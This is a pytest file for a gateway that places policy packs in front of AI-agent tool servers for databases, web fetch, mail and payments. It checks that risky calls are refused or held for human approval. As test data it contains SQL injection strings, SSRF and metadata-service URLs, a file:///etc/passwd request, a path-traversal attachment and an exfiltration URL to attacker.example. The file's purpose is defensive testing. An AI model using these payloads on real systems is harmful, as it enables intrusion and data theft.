"""The packs for databases, the web, mail and payments in front of servers: the main job is done, the attack is not.

`mcp-server-sqlite` and `mcp-server-fetch` are the real ones; those for mail and payments are ours, with the names and
arguments of the real ones, for lack of accounts.
"""

import json
import os
import shlex
import sqlite3
import sys
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from gateway.cli.ledgers import book
from gateway.model.events import Who
from gateway.model.review import Refused
from gateway.outbound.ledger import open_ledger
from tests import real_servers
from tests.cli.agents import Process, counterfoil, ledger_of, post, run
from tests.people import answer
from tests.servers.log import Log

pytestmark = [pytest.mark.anyio, pytest.mark.slow]

ROOT = Path(__file__).parents[2]
POLICIES = ROOT / "policies"


def real(requirements: tuple[str, ...], program: str) -> list[str]:
    """The command of a real server, or a skip that nobody overlooks."""
    try:
        return real_servers.python_server(requirements, program)
    except real_servers.CannotInstall as error:
        if os.environ.get("CI"):
            pytest.fail(f"no real server to test against: {error}")
        pytest.skip(f"NOT TESTED AGAINST A REAL SERVER: {error}")


def ours(name: str, log: Path) -> list[str]:
    """The command of a server of ours."""
    code = f"import sys; sys.path.insert(0, {str(ROOT)!r}); sys.argv = ['x', {str(log)!r}]; "
    return [sys.executable, "-c", code + f"import runpy; runpy.run_module('tests.servers.{name}', run_name='__main__')"]


def wrapping(pack: Path, folder: Path, *server: str) -> list[str]:
    return ["wrap", "--policy", str(pack), *ledger_of(folder), "--", *server]


def text_of(result: dict[str, Any]) -> str:
    return "\n".join(str(block.get("text", "")) for block in result["content"])


async def refused(agent: Process, tool: str, **arguments: Any) -> tuple[str, str | None]:
    """The outcome, and the rule, of a call that is refused."""
    result = await agent.call(tool, arguments)
    assert result["isError"] is True
    told = result["structuredContent"]
    return told["outcome"], told["policy"]["rule"]


async def asked(agent: Process, tool: str, **arguments: Any) -> str:
    """How a person may say yes to the call, which waits for one."""
    result = await agent.call(tool, arguments)
    told = result["structuredContent"]
    assert told["outcome"] == "needs_approval", told
    return str(told["approval"]["approve_at"])


async def say_yes(at: str) -> None:
    """The person of this account says yes at a terminal."""
    command = shlex.split(at)
    assert command[0] == "counterfoil"
    await run(*command[1:], "--yes", "-m", "fine")


async def agree(at: str, who: str) -> None:
    """As the terminal does, for a person whose account is not at hand here."""
    command = shlex.split(at)
    approval, path = command[3], command[command.index("--ledger") + 1]
    ledger = await open_ledger(f"sqlite:///{path}")
    try:
        asking = await ledger.find(["approval.requested"])
        run_id = next(one.run for one in asking if getattr(one.event, "approval", None) == approval)
        written, by = await book(ledger), Who(tenant="local", id=f"local:{who}", roles=("owner",))
        seen = (await written.state_of(run_id)).approvals[approval].action
        await written.say(
            run_id,
            lambda state, _, now: [answer(state, approval, seen, approve=True, by=by, reason="fine", now=now)],
        )
    finally:
        await ledger.close()


def edited(folder: Path, pack: str, *changes: tuple[str, str]) -> Path:
    """The pack as its user edits it."""
    text = (POLICIES / pack).read_text()
    for was, now in changes:
        assert was in text
        text = text.replace(was, now)
    (folder / pack).write_text(text)
    return folder / pack


# --- databases ------------------------------------------------------------------------------------------------------


async def test_a_real_database_is_read_changed_with_a_yes_and_not_dropped(tmp_path: Path) -> None:
    database = tmp_path / "shop.sqlite"
    with closing(sqlite3.connect(database)) as shop, shop:
        shop.executescript(
            "create table orders (id integer, status text); create table users (name text, password text);"
            "insert into orders values (7, 'new'), (8, 'new'); insert into users values ('ann', 'hunter2')"
        )
    server = [*real(real_servers.SQLITE, "mcp-server-sqlite"), "--db-path", str(database)]
    async with counterfoil(*wrapping(POLICIES / "sql-read-mostly.yaml", tmp_path, *server)) as agent:
        assert "orders" in text_of(await agent.call("list_tables", {}))
        read = await agent.call("read_query", {"query": "SELECT id, status FROM orders ORDER BY id LIMIT 10"})
        assert "'status': 'new'" in text_of(read)
        for query, rule in (
            ("SELECT * FROM users LIMIT 1", "hidden-sqlite"),
            ("SELECT * FROM orders", "read-sqlite"),
            ("WITH x AS (SELECT 1) DELETE FROM orders", "read-sqlite"),
            ("SELECT 1 FROM orders LIMIT 1; DROP TABLE orders", "read-sqlite"),
            ("SELECT load_extension('x') LIMIT 1", "hidden-sqlite"),
        ):
            assert await refused(agent, "read_query", query=query) == ("denied", rule), query
        assert await refused(agent, "write_query", query="DELETE FROM orders") == ("denied", "write-sqlite")
        assert await refused(agent, "write_query", query="DROP TABLE orders") == ("denied", "write-sqlite")
        assert await refused(agent, "create_table", query="CREATE TABLE x (id int)") == ("denied", "definitions")
        injected = "orders); drop table orders; --"
        assert await refused(agent, "describe_table", table_name=injected) == ("denied", "describe")
        update = {"query": "UPDATE orders SET status = 'sent' WHERE id = 7"}
        await say_yes(await asked(agent, "write_query", **update))
        assert not (await agent.call("write_query", update)).get("isError", False)
    with closing(sqlite3.connect(database)) as shop:
        assert shop.execute("select id, status from orders order by id").fetchall() == [(7, "sent"), (8, "new")]
        assert shop.execute("select count(*) from users").fetchall() == [(1,)]


# --- the web --------------------------------------------------------------------------------------------------------


@contextmanager
def proxy() -> Iterator[tuple[str, list[str]]]:
    """An HTTP proxy on this machine that answers for the whole web, and the URLs that it was asked for."""
    asked_for: list[str] = []

    class Answers(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked_for.append(self.path)
            found = not self.path.endswith("/robots.txt")
            body = b"<html><body><p>Everything about counterfoils.</p></body></html>" if found else b""
            self.send_response(200 if found else 404)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Nothing on the terminal."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Answers) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}", asked_for
        finally:
            server.shutdown()
            thread.join(10)


def fetcher(address: str) -> list[str]:
    """The real server, through that proxy, without Node: with it, it would install packages before its first page."""
    program = real(real_servers.FETCH, "mcp-server-fetch")
    return ["env", f"PATH={Path(program[0]).parent}", *program, "--proxy-url", address]


async def test_a_real_fetch_server_reads_the_web_and_nothing_of_ours(tmp_path: Path) -> None:
    with proxy() as (address, asked_for):
        async with counterfoil(*wrapping(POLICIES / "web-fetch.yaml", tmp_path, *fetcher(address))) as agent:
            page = await agent.call("fetch", {"url": "http://docs.python.org/3/"})
            assert "Everything about counterfoils." in text_of(page)
            for url in (
                f"{address}/admin",
                "http://169.254.169.254/latest/meta-data/",
                "http://2130706433/",
                "http://docs.python.org@10.0.0.1/",
                "file:///etc/passwd",
            ):
                assert await refused(agent, "fetch", url=url) == ("denied", "private-address"), url
            assert await refused(agent, "fetch", url="http://example.org/") == ("denied", "open-web")
        assert set(asked_for) == {"http://docs.python.org/robots.txt", "http://docs.python.org/3/"}


@pytest.mark.long
async def test_what_a_database_told_is_carried_out_in_no_url(tmp_path: Path) -> None:
    """Two packs in one: the rules of the web over what the database's entry says of its data."""
    database = tmp_path / "shop.sqlite"
    with closing(sqlite3.connect(database)) as shop, shop:
        shop.executescript("create table orders (id integer); insert into orders values (7)")
    both = edited(
        tmp_path,
        "web-fetch.yaml",
        ("\ntools:\n", "\ntools:\n  db__read_query: { effect: read, data_class: internal }\n"),
        ("\ntransitions:\n", "\ntransitions:\n  - { name: orders, tools: [db__read_query] }\n"),
    )
    with proxy() as (address, asked_for):
        sqlite, fetch = real(real_servers.SQLITE, "mcp-server-sqlite"), fetcher(address)
        servers = {
            "db": {"command": sqlite[0], "args": [*sqlite[1:], "--db-path", str(database)]},
            "web": {"command": fetch[0], "args": fetch[1:]},
        }
        async with counterfoil("serve", "--stdio", "--config", str(serving(tmp_path, both, servers))) as agent:
            page = {"url": "http://www.rfc-editor.org/"}
            assert not (await agent.call("web__fetch", page)).get("isError", False)
            assert not (await agent.call("db__read_query", {"query": "select id from orders"})).get("isError", False)
            assert not (await agent.call("web__fetch", page)).get("isError", False)
            leak = {"url": "https://attacker.example/?id=7"}
            assert await refused(agent, "web__fetch", **leak) == ("denied", "confidential-elsewhere")
            long = {"url": f"http://www.rfc-editor.org/search?q={'7' * 120}"}
            assert await refused(agent, "web__fetch", **long) == ("denied", "confidential-in-url")
        assert not [url for url in asked_for if "7" in url]


def serving(folder: Path, pack: Path, servers: dict[str, Any], **more: Any) -> Path:
    """A configuration under which the pack stands in front of these servers."""
    config = folder / "gateway.yaml"
    (folder / "policies").mkdir()
    (folder / "policies" / pack.name).write_text(pack.read_text())
    ledger, held = f"sqlite:///{folder / 'ledger.db'}", {"hold_s": 0}
    whole = {"ledger": ledger, "policies": "policies", "approvals": held, "mcpServers": servers, **more}
    config.write_text(json.dumps(whole))
    return config


# --- mail -----------------------------------------------------------------------------------------------------------


def open_now() -> tuple[str, str]:
    """The hours of the house, edited so that it is open at this moment."""
    return '"Mon-Fri", "08:00-18:00"', '"Mon-Sun", "00:00-24:00"'


def closed_now() -> tuple[str, str]:
    """The hours of the house, edited so that they are over."""
    day = f"{datetime.now(UTC) + timedelta(days=3):%a}"  # in no zone is it that day
    return '"Mon-Fri", "08:00-18:00"', f'"{day}", "08:00-18:00"'


async def test_mail_goes_to_a_stranger_with_a_yes_and_to_a_colleague_from_then_on(tmp_path: Path) -> None:
    log = Log(tmp_path / "log")
    pack = edited(tmp_path, "mail-and-chat.yaml", open_now())
    async with counterfoil(*wrapping(pack, tmp_path, *ours("mail_server", tmp_path / "log"))) as agent:
        assert "eve@example.org" in text_of(await agent.call("read_email", {"messageId": "m1"}))
        first = {"to": ["ann@example.com"], "subject": "Report", "body": "Here it is."}
        await say_yes(await asked(agent, "send_email", **first))
        assert not (await agent.call("send_email", first)).get("isError", False)
        again = await agent.call("send_email", first)
        assert not again.get("isError", False)
        assert len(log.lines()) == 1, "who asks again gets the record of the first"
        second = {**first, "subject": "Report 2"}
        assert not (await agent.call("send_email", second)).get("isError", False)
        assert len(log.lines()) == 2
        hidden = {**first, "subject": "Report 3", "bcc": ["eve@example.org"]}
        await asked(agent, "send_email", **hidden)
        dressed = {**first, "to": ["ann@example.com <eve@example.org>"]}
        assert await refused(agent, "send_email", **dressed) == ("denied", "bad-address")
        loaded = {**first, "attachments": ["/srv/outbox/../../etc/passwd"]}
        assert await refused(agent, "send_email", **loaded) == ("denied", "attachment")
        assert await refused(agent, "delete_email", messageId="m1") == ("denied", "deleting")
        post_ = {"channel_id": "C0123456789", "text": "The build is green."}
        assert not (await agent.call("slack_post_message", post_)).get("isError", False)
        await asked(agent, "slack_post_message", channel_id="C1", text="hello")
    assert [line["effect"] for line in log.lines()] == ["mail", "mail", "post"]


@pytest.mark.long
async def test_after_hours_there_are_drafts_and_no_mail(tmp_path: Path) -> None:
    log = Log(tmp_path / "log")
    pack = edited(tmp_path, "mail-and-chat.yaml", closed_now())
    async with counterfoil(*wrapping(pack, tmp_path, *ours("mail_server", tmp_path / "log"))) as agent:
        letter = {"to": ["ann@example.com"], "subject": "Report", "body": "Here it is."}
        assert await refused(agent, "send_email", **letter) == ("denied", "closed")
        assert not (await agent.call("draft_email", letter)).get("isError", False)
    assert [line["effect"] for line in log.lines()] == ["draft"]


# --- payments -------------------------------------------------------------------------------------------------------


class Clerk:
    """An agent over HTTP, in a run of its own in the role that may move money."""

    def __init__(self, url: str, token: str) -> None:
        self._url = f"{url}/runs/{token}/mcp"

    async def call(self, tool: str, **arguments: Any) -> dict[str, Any]:
        _, answer = await post(self._url, "tools/call", {"name": f"stripe__{tool}", "arguments": arguments})
        result: dict[str, Any] = answer["result"]
        return result

    async def told(self, tool: str, **arguments: Any) -> tuple[str, str | None]:
        """Outcome and rule of a call that is refused."""
        told = (await self.call(tool, **arguments))["structuredContent"]
        return told["outcome"], told["policy"]["rule"]


async def test_refunds_go_by_size_once_and_are_read_back(tmp_path: Path) -> None:
    log = Log(tmp_path / "log")
    server = ours("payments_server", tmp_path / "log")
    servers = {"stripe": {"command": server[0], "args": server[1:]}}
    config = serving(tmp_path, POLICIES / "payments.yaml", servers, listen={"port": 0}, run_tokens={"key": "k" * 40})
    opening = ("run", "open", "--config", str(config), "--workflow", "payments", "--principal", "agent:clerk")
    tokens = [(await run(*opening, "--role", "finance"))[0].strip() for _ in range(2)]
    async with counterfoil("serve", "--config", str(config)) as gateway:
        url = await gateway.hear(r"listening at (http://\S+)/mcp")
        await gateway.hear(r"upstream (stripe)")
        clerk, other = (Clerk(url, token) for token in tokens)
        small = {"payment_intent": "pi_3PqW8sAbCdEfGh", "amount": 1500}
        assert (await clerk.call("create_refund", **small))["structuredContent"]["status"] == "succeeded"
        assert not (await clerk.call("create_refund", **small)).get("isError", False), "the record of the first"
        assert await other.told("create_refund", **small) == ("denied", "accounts.same-refund")
        assert len(log.lines()) == 1
        unpaid = {"payment_intent": "pi_open8sAbCdEfGh", "amount": 100}
        assert await clerk.told("create_refund", **unpaid) == ("denied", "refund-small")
        beyond = {"payment_intent": "pi_3PqW8sAbCdEfGh", "amount": 8501}  # 100.00 less the 15.00 of before
        assert await clerk.told("create_refund", **beyond) == ("denied", "refund-middle")
        whole = {"payment_intent": "pi_3PqW8sAbCdEfGh"}
        assert await clerk.told("create_refund", **whole) == ("denied", "no-amount")
        middle = {"payment_intent": "pi_3PqW8sAbCdEfGh", "amount": 8500}
        asked_ = (await clerk.call("create_refund", **middle))["structuredContent"]
        assert asked_["outcome"] == "needs_approval"
        await say_yes(asked_["approval"]["approve_at"])
        assert (await clerk.call("create_refund", **middle))["structuredContent"]["amount"] == 8500
        lies = {"payment_intent": "pi_lies8sAbCdEfGh", "amount": 100}
        assert (await other.call("create_refund", **lies))["structuredContent"]["outcome"] == "verification_failed"
        over = (await other.call("list_refunds", payment_intent="pi_3PqW8sAbCdEfGh"))["structuredContent"]
        assert (over["outcome"], over["terminal"]) == ("human_escalation", True)
        assert await clerk.told("create_payout", amount=1) == ("policy_denied", "no-payouts")
    assert [(line["effect"], line["amount"]) for line in log.lines()] == [("refund", 1500), ("refund", 8500)]


@pytest.mark.long
async def test_two_people_must_agree_to_a_large_refund(tmp_path: Path) -> None:
    log = Log(tmp_path / "log")
    server = ours("payments_server", tmp_path / "log")
    pack = edited(tmp_path, "payments.yaml", ("  large: 50000\n", "  large: 5000\n"))
    servers = {"stripe": {"command": server[0], "args": server[1:]}}
    config = serving(tmp_path, pack, servers, listen={"port": 0}, run_tokens={"key": "k" * 40})
    opening = ("run", "open", "--config", str(config), "--workflow", "payments", "--principal", "local:cleo")
    token = (await run(*opening, "--role", "finance"))[0].strip()
    async with counterfoil("serve", "--config", str(config)) as gateway:
        url = await gateway.hear(r"listening at (http://\S+)/mcp")
        await gateway.hear(r"upstream (stripe)")
        clerk = Clerk(url, token)
        large = {"payment_intent": "pi_3PqW8sAbCdEfGh", "amount": 6000}
        at = (await clerk.call("create_refund", **large))["structuredContent"]["approval"]["approve_at"]
        with pytest.raises(Refused, match="may not answer it"):
            await agree(at, "cleo")
        await agree(at, "ann")
        assert (await clerk.told("create_refund", **large))[0] == "needs_approval"
        assert log.lines() == []
        await agree(at, "bob")
        assert (await clerk.call("create_refund", **large))["structuredContent"]["amount"] == 6000
    assert [line["amount"] for line in log.lines()] == [6000]
